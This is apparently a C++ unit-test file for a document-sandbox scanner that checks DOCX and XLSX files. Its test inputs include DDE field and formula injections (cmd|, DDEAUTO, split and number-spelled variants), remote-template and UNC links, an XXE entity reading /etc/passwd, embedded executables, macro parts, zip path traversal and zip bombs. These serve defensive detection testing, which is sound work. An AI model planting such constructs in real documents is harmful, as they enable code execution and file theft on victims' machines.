// DOCX and XLSX: whole documents pass, and what their archive, their XML or the files in them would do is seen.
#include <gtest/gtest.h>

#include "sample/office_writer.h"
#include "sample/pdf_writer.h"
#include "sample/zip_writer.h"
#include "sandbox/rules/eicar.h"
#include "sandbox/types/office_targets.h"
#include "tests/support/judged_bytes.h"

namespace lazaret::sandbox {
namespace {

using namespace std::string_literals;
using sample::OfficeKind;
using sample::OfficeWriter;
using sample::ZipWriter;

class Offices : public testing_support::JudgedBytes {
 protected:
  static std::string said_of_body(const std::string& body) {
    OfficeWriter writer(OfficeKind::kDocument);
    writer.set_body(body);
    return said_of("docx", writer.finish());
  }
  static std::string said_of_sheet(const std::string& data) {
    OfficeWriter writer(OfficeKind::kWorkbook);
    writer.set_body(data);
    return said_of("xlsx", writer.finish());
  }
  static std::string said_of_formula(const std::string& formula) {
    return said_of_sheet("<row><c><f>" + sample::escaped_for_xml(formula) + "</f><v>0</v></c></row>");
  }
  static std::string said_of_part(const std::string& name, const std::string& bytes) {
    OfficeWriter writer(OfficeKind::kDocument);
    writer.add_part({name, bytes});
    return said_of("docx", writer.finish());
  }
  static std::string said_of_link(const std::string& kind, const std::string& target) {
    OfficeWriter writer(OfficeKind::kDocument);
    writer.add_relationship({kind, target, true});
    return said_of("docx", writer.finish());
  }
};

std::string plain_docx() {
  return sample::make_docx({"All values are normal.", "Hb 14.1 g/dl & rising"}, {"\xFF\xD8\xFF\xD9"});
}

std::string plain_xlsx() {
  return sample::make_xlsx({{"test", "value"}, {"Hb", "14.1"}});
}

std::string field(const std::string& instruction) {
  return "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>" + instruction +
         "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r><w:r>"
         "<w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
}

// The entry of a compound file's directory.
std::string directory_entry(std::string_view name) {
  std::string entry;
  for (const char c : name)
    entry += c + "\0"s;
  const auto length = static_cast<char>(entry.size() + 2);
  entry.resize(64, '\0');
  entry.push_back(length);
  entry.resize(128, '\0');
  return entry;
}

std::string compound(const std::string& sectors) {
  std::string file = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"s;
  file.resize(512, '\0');
  return file + sectors + std::string(512 - sectors.size() % 512, '\0');
}

std::string package(const std::string& label, const std::string& bytes) {
  return "\0\1\0\0\2\0"s + label + "\0C:\\a\\"s + label + "\0\0\0\3\0"s + "\6\0\0\0C:\\b\\c\0"s + "\x10\0\0\0"s + bytes;
}

TEST_F(Offices, AWholeDocumentIsCleanAndTellsItsParts) {
  const inspect::Report docx = judge("docx", plain_docx());
  EXPECT_EQ(in_words(docx), "clean");
  EXPECT_EQ(facts_of(docx), "parts=5");
  EXPECT_EQ(docx.content_type, "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
  const inspect::Report xlsx = judge("xlsx", plain_xlsx(), "application/zip");
  EXPECT_EQ(in_words(xlsx), "clean");
  EXPECT_EQ(facts_of(xlsx), "parts=6");
  EXPECT_EQ(xlsx.content_type, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
}

TEST_F(Offices, LiesAboutTheTypeAreRefused) {
  EXPECT_EQ(said_of("xlsx", plain_docx()), "not_pdf: type_mismatch");
  EXPECT_EQ(said_of("docx", plain_xlsx()), "not_pdf: type_mismatch");
  EXPECT_EQ(said_of("docx", "%PDF-1.7"), "not_pdf: type_mismatch");
  ZipWriter zip;
  zip.add("results.txt", "14.1");
  const inspect::Report report = judge("docx", zip.finish());
  EXPECT_EQ(in_words(report), "not_pdf: type_mismatch") << "any archive";
  EXPECT_EQ(report.content_type, "application/zip");
  EXPECT_EQ(said_of("docx", compound(directory_entry("WordDocument"))), "not_pdf: type_mismatch") << "a .doc";
}

TEST_F(Offices, ADocumentUnderAPasswordIsEncrypted) {
  const std::string locked = compound(directory_entry("Root Entry") + directory_entry("EncryptedPackage"));
  EXPECT_EQ(said_of("docx", locked), "encrypted: encrypted");
  EXPECT_EQ(said_of("xlsx", locked), "encrypted: encrypted");
  std::string archive = plain_docx();
  archive[6] |= 1;
  archive[archive.find("PK\1\2") + 8] |= 1;
  EXPECT_EQ(said_of("docx", archive).substr(0, 9), "encrypted");
}

TEST_F(Offices, MacrosAreSuspiciousWhereverTheyAreTold) {
  EXPECT_EQ(said_of_part("word/vbaProject.bin", "inert"), "suspicious: macros");
  EXPECT_EQ(said_of_part("word/activeX/activeX1.bin", "inert"), "suspicious: macros");
  EXPECT_EQ(said_of_part("xl/macrosheets/sheet1.xml", "<a/>"), "suspicious: macros");
  OfficeWriter typed(OfficeKind::kDocument);
  typed.add_content_type("word/odd.bin", "application/vnd.ms-office.vbaProject");
  EXPECT_EQ(said_of("docx", typed.finish()), "suspicious: macros");
  OfficeWriter related(OfficeKind::kDocument);
  related.add_relationship({"vbaProject", "odd.bin"});
  EXPECT_EQ(said_of("docx", related.finish()), "suspicious: macros");
  EXPECT_EQ(said_of_part("xl/names.xml", "<a><definedName name=\"_xlnm.Auto_Open\">Sheet1!$A$1</definedName></a>"),
            "suspicious: macros");
  EXPECT_EQ(said_of_part("xl/names.xml", "<a><definedName name=\"_xlnm.Print_Area\">Sheet1!$A$1</definedName></a>"),
            "clean");
}

TEST_F(Offices, WhatIsFetchedByItselfIsToldFromWhatWaitsForAClick) {
  EXPECT_EQ(said_of_link("hyperlink", "https://clinic.example/results"), "clean: uri");
  EXPECT_EQ(said_of_link("hyperlink", "mailto:ward@clinic.example"), "clean: uri");
  EXPECT_EQ(said_of_link("hyperlink", "javascript:inert"), "suspicious: dangerous_uri");
  EXPECT_EQ(said_of_link("hyperlink", "\\\\host\\share\\a.docx"), "suspicious: unc_path");
  for (const char* kind : {"attachedTemplate", "frame", "image", "oleObject", "subDocument", "unheardOf"}) {
    EXPECT_EQ(said_of_link(kind, "https://host.example/a.dotm"), "suspicious: auto_run_uri") << kind;
    EXPECT_EQ(said_of_link(kind, "file://host/share/a.dotm"), "malicious: auto_run_unc") << kind;
    EXPECT_EQ(said_of_link(kind, "file:///C:\\Users\\a\\letter.dotx"), "active: go_to_remote") << kind;
  }
  EXPECT_EQ(said_of_link("oleObject", "mhtml:https://host.example/a.html!x-usc:https://host.example/a.html"),
            "suspicious: dangerous_uri");
  EXPECT_EQ(said_of_link("externalLinkPath", "Budget 2026.xlsx"), "active: go_to_remote");
  EXPECT_EQ(said_of_link("externalLinkPath", "\\\\host\\share\\a.xlsx"), "suspicious: unc_path");
}

TEST_F(Offices, FieldsThatStartProgramsAreSeenHoweverTheyAreSplit) {
  EXPECT_EQ(said_of_body(field("DDEAUTO c:\\\\windows\\\\x \"inert\"")), "suspicious: dde");
  EXPECT_EQ(said_of_body(field(" dde x")), "suspicious: dde");
  EXPECT_EQ(said_of_body(field("DD</w:instrText></w:r><w:r><w:instrText>EAUTO x")), "suspicious: dde");
  EXPECT_EQ(said_of_body("<w:p><w:fldSimple w:instr=\"DDEAUTO x\"/></w:p>"), "suspicious: dde");
  EXPECT_EQ(said_of_body("<w:r><w:instrText>DDEAUTO x</w:instrText></w:r>"), "suspicious: dde");
  const auto around = [](const std::string& inner, const std::string& rest) {
    return "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + inner + "<w:r><w:instrText>" + rest +
           "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
  };
  EXPECT_EQ(said_of_body(around(field("QUOTE 68 68 69"), " x")), "suspicious: dde") << "spelled by numbers";
  EXPECT_EQ(said_of_body(around(field("QUOTE 80 65 71 69"), " x")), "clean");
}

TEST_F(Offices, FieldsThatFetchAreJudgedByWhereTheyLead) {
  EXPECT_EQ(said_of_body(field("INCLUDEPICTURE \"https://host.example/a.png\" \\d")), "suspicious: auto_run_uri");
  EXPECT_EQ(said_of_body(field("INCLUDETEXT \"\\\\\\\\host\\\\share\\\\a.docx\"")), "malicious: auto_run_unc");
  EXPECT_EQ(said_of_body(field("HYPERLINK \"https://clinic.example\" \\o \"the clinic\"")), "clean: uri");
  EXPECT_EQ(said_of_body(field("HYPERLINK \\l \"results\"")), "clean");
  EXPECT_EQ(said_of_body(field("PAGE \\* MERGEFORMAT")), "clean");
  EXPECT_EQ(said_of_body(field("INCLUDEPICTURE \"cat.png\"")), "clean");
}

TEST_F(Offices, FormulasThatStartProgramsAreSeen) {
  EXPECT_EQ(said_of_formula("cmd|'/c inert'!A0"), "suspicious: dde");
  EXPECT_EQ(said_of_formula("RTD(\"inert\",,\"x\")"), "suspicious: dde");
  EXPECT_EQ(said_of_formula("_xlfn.WEBSERVICE(\"https://host.example/\"&A1)"), "suspicious: auto_run_uri");
  EXPECT_EQ(said_of_formula("CALL(\"inert\",\"x\",\"J\")"), "suspicious: macros");
  for (const char* formula : {"SUM(A1:A9)", "IF(A1=\"a|b\",\"call(\",'x|y'!A1)", "RECALL(1)", "[1]Sheet1!A1"}) {
    EXPECT_EQ(said_of_formula(formula), "clean") << formula;
  }
  EXPECT_EQ(said_of_part("xl/externalLinks/a.xml", "<externalLink><ddeLink ddeService=\"cmd\"/></externalLink>"),
            "suspicious: dde");
  EXPECT_EQ(said_of_part("xl/connections.xml", "<connections><connection refreshOnLoad=\"1\"/></connections>"),
            "suspicious: auto_run_uri");
  EXPECT_EQ(said_of_part("xl/connections.xml", "<connections><connection id=\"1\"/></connections>"), "clean");
}

TEST_F(Offices, FilesInsideAreJudgedByTheirOwnBytes) {
  EXPECT_EQ(said_of_part("word/media/image1.png", "MZ\x90 program"), "malicious: executable_attachment");
  EXPECT_EQ(said_of_part("word/embeddings/setup.exe", "text"), "malicious: executable_attachment, embedded_file");
  EXPECT_EQ(said_of_part("word/a.htm", "<html></html>"), "suspicious: markup_attachment");
  EXPECT_EQ(said_of_part("word/a.rtf", "{\\rtf1 x}"), "suspicious: locked_attachment");
  EXPECT_EQ(said_of_part("word/media/image1.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>"), "clean");
  EXPECT_EQ(said_of_part("word/media/image1.svg", "<svg><script>inert</script></svg>"), "suspicious: embedded_script");
  EXPECT_EQ(said_of_part("word/embeddings/a.pdf", "%PDF-1.7"), "malformed: no_pages, embedded_file, truncated");
  EXPECT_EQ(said_of_part("META-INF/MANIFEST.MF", "Main-Class: A"), "suspicious: polyglot");
}

TEST_F(Offices, DocumentsInsideAreJudgedOnce) {
  EXPECT_EQ(said_of_part("word/embeddings/a.xlsx", plain_xlsx()), "active: embedded_file");
  OfficeWriter inner(OfficeKind::kWorkbook);
  inner.add_part({"xl/vbaProject.bin", "inert"});
  EXPECT_EQ(said_of_part("word/embeddings/a.xlsx", inner.finish()), "suspicious: macros, embedded_file");
  OfficeWriter middle(OfficeKind::kDocument);
  middle.add_part({"word/embeddings/b.xlsx", plain_xlsx()});
  EXPECT_EQ(said_of_part("word/embeddings/a.docx", middle.finish()), "suspicious: locked_attachment, embedded_file");
  ZipWriter zip;
  zip.add("a.txt", "text");
  EXPECT_EQ(said_of_part("word/embeddings/a.bin", zip.finish()), "suspicious: locked_attachment, embedded_file");
}

TEST_F(Offices, ObjectsAreLookedInto) {
  const std::string name = "word/embeddings/oleObject1.bin";
  EXPECT_EQ(said_of_part(name, compound(directory_entry("CONTENTS"))), "active: embedded_file");
  EXPECT_EQ(said_of_part(name, compound(directory_entry("_VBA_PROJECT"))),
            "suspicious: macro_attachment, embedded_file");
  EXPECT_EQ(said_of_part(name, compound(package("a.txt", "plain text"))), "active: embedded_file");
  EXPECT_EQ(said_of_part(name, compound(package("a.js", "plain text"))),
            "malicious: executable_attachment, embedded_file");
  EXPECT_EQ(said_of_part(name, compound(package("a.txt", "MZ\x90"))),
            "malicious: executable_attachment, embedded_file");
}

TEST_F(Offices, XmlThatOpensOrUnfoldsIsSeen) {
  EXPECT_EQ(said_of_part("word/a.xml", "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
            "malicious: external_entity");
  EXPECT_EQ(said_of_part("word/a.xml", "<!DOCTYPE a SYSTEM 'http://host.example/a.dtd'><a/>"),
            "malicious: external_entity");
  EXPECT_EQ(said_of_part("word/odd.dat", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>"),
            "suspicious: internal_entity");
  EXPECT_EQ(said_of_part("word/a.xml", "<a>"), "malformed: unreadable");
  EXPECT_EQ(said_of_part("word/a.vml", "<xml><br></xml>"), "clean") << "as old programs write drawings";
}

TEST_F(Offices, TheAntivirusTestIsFoundInsideAPart) {
  EXPECT_EQ(said_of_part("word/note.txt", eicar_test_string()), "malicious: eicar");
}

TEST_F(Offices, APartThatUnpacksTooFarIsABomb) {
  EXPECT_EQ(said_of_part("word/a.xml", "<a>" + std::string(8 << 20, ' ') + "</a>"),
            "bomb: inflates_too_far, unreadable");
  OfficeWriter writer(OfficeKind::kDocument);
  writer.add_part({"word/media/scan.bmp", std::string(8 << 20, '\0')});
  EXPECT_EQ(said_of("docx", writer.finish()), "clean") << "a white page";
}

TEST_F(Offices, AnArchiveThatContradictsItselfIsSuspicious) {
  ZipWriter twice;
  for (const OfficeWriter::Part& part : OfficeWriter(OfficeKind::kDocument).parts())
    twice.add(part.name, part.bytes);
  ZipWriter gap = twice;
  ZipWriter escape = twice;
  twice.add("Word/Document.xml", "<a/>");
  EXPECT_EQ(said_of("docx", twice.finish()), "suspicious: archive_mismatch") << "a name twice";
  gap.add_raw("PK\3\4 what no directory lists");
  gap.add("a.xml", "<a/>");
  EXPECT_EQ(said_of("docx", gap.finish()), "suspicious: archive_mismatch") << "an entry that nobody lists";
  for (const char* name : {"../../a.xml", "/etc/a.xml", "word\\a.xml", "C:a.xml"}) {
    ZipWriter one = escape;
    one.add(name, "<a/>");
    EXPECT_EQ(said_of("docx", one.finish()), "suspicious: archive_mismatch") << name;
  }
  std::string renamed = plain_docx();
  renamed.replace(renamed.find("word/document.xml"), 4, "Word");
  EXPECT_EQ(said_of("docx", renamed), "suspicious: archive_mismatch") << "its own header calls it something else";
  std::string summed = plain_docx();
  summed[14] ^= 1;
  summed[summed.find("PK\1\2") + 16] ^= 1;
  EXPECT_EQ(said_of("docx", summed), "suspicious: archive_mismatch") << "a wrong sum";
  std::string sized = plain_docx();
  sized[22] ^= 1;
  sized[sized.find("PK\1\2") + 24] ^= 1;
  EXPECT_EQ(said_of("docx", sized), "suspicious: archive_mismatch") << "a wrong size";
}

TEST_F(Offices, EntriesThatShareTheirBytesAreSuspicious) {
  std::string file = plain_docx();
  const std::size_t directory = file.find("PK\1\2");
  const std::size_t second = file.find("PK\1\2", directory + 1);
  file.replace(second + 42, 4, file.substr(directory + 42, 4));
  EXPECT_EQ(said_of("docx", file), "malformed: unreadable, archive_mismatch");
}

TEST_F(Offices, WhatStandsAroundTheArchiveIsSeen) {
  EXPECT_EQ(said_of("docx", plain_docx() + "stray"), "repaired: trailing_bytes");
  EXPECT_EQ(said_of("docx", plain_docx() + "MZ" + std::string(60, '\0')), "suspicious: polyglot");
  EXPECT_EQ(said_of("docx", plain_docx() + plain_docx()), "suspicious: polyglot, archive_mismatch");
  EXPECT_EQ(said_of("docx", "MZ" + plain_docx()), "not_pdf: type_mismatch");
}

TEST_F(Offices, ADamagedArchiveIsUnreadable) {
  EXPECT_EQ(said_of("docx", plain_docx().substr(0, 900)), "malformed: unreadable");
  std::string damaged = plain_docx();
  damaged[40 + 19] ^= 0x7F;
  EXPECT_NE(said_of("docx", damaged), "clean");
  std::string odd = plain_docx();
  odd[8] = odd[odd.find("PK\1\2") + 10] = 12;
  EXPECT_NE(said_of("docx", odd).find("unreadable"), std::string::npos) << "a compression that nobody has";
}

TEST_F(Offices, TooManyPartsAreABomb) {
  ZipWriter zip;
  for (int i = 0; i < 10'001; ++i)
    zip.add("a" + std::to_string(i), "", ZipWriter::Method::kStored);
  EXPECT_EQ(said_of("docx", zip.finish()).substr(0, 4), "bomb");
}

TEST_F(Offices, EveryCutOfADocumentIsAnswered) {
  const std::string document = plain_docx();
  for (std::size_t length = 0; length < document.size(); length += 3)
    EXPECT_NE(said_of("docx", std::string_view(document).substr(0, length)), "clean") << length;
}

}  // namespace
}  // namespace lazaret::sandbox
